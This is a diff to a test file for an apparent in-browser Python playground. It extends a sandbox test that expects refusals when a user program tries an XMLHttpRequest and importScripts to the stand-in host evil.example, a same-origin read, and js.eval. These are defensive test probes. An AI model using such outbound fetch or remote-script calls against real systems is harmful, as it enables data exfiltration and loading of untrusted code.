@@ -180,7 +180,7 @@ def test_a_frame_is_as_high_as_what_is_in_it(playground):
     playground.until("Math.abs(document.querySelector('.blocks iframe').clientHeight - 436) < 5", seconds=5)
 
 
-def test_a_program_reaches_no_other_host(playground):
+def test_a_program_reaches_no_other_host_and_not_its_own(playground):
     program = """import js
 
 def read():
@@ -188,14 +188,19 @@ def read():
     request.open("GET", "https://evil.example/", False)
     request.send()
 
-for way in (read, lambda: js.importScripts("https://evil.example/"), lambda: js.eval("1")):
+def read_here():
+    request = js.XMLHttpRequest.new()
+    request.open("GET", js.location.origin + "/index.html", False)
+    request.send()
+
+for way in (read, read_here, lambda: js.importScripts("https://evil.example/"), lambda: js.eval("1")):
     try:
         way()
     except Exception as error:
         print("refused")
 """
     playground.run(program)
-    assert playground.blocks == [["text", "refused\nrefused\nrefused\n"]]
+    assert playground.blocks == [["text", "refused\nrefused\nrefused\nrefused\n"]]
     playground.troubles[:] = [one for one in playground.troubles if not refused(one)]
 
 
